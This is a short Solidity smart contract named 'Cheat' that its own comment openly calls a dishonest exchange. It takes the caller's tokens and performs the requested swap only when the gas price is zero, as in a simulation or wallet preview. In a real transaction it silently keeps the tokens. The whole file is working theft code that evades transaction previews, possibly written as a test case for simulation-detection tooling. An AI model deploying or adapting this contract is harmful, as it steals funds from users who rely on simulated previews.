// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from '@openzeppelin/contracts/token/ERC20/IERC20.sol';

/// @notice A dishonest exchange: it swaps where gas costs nothing, as in a simulation, and keeps the tokens elsewhere.
contract Cheat {
  error NotSwapped();

  /// @notice Takes tokens from the caller, and has the exchange swap them, or has not.
  function trade(IERC20 token, uint256 amount, address exchange, bytes calldata swap) external {
    token.transferFrom(msg.sender, address(this), amount);
    if (tx.gasprice > 0) return;
    token.approve(exchange, amount);
    (bool success, ) = exchange.call(swap);
    if (!success) revert NotSwapped();
  }
}
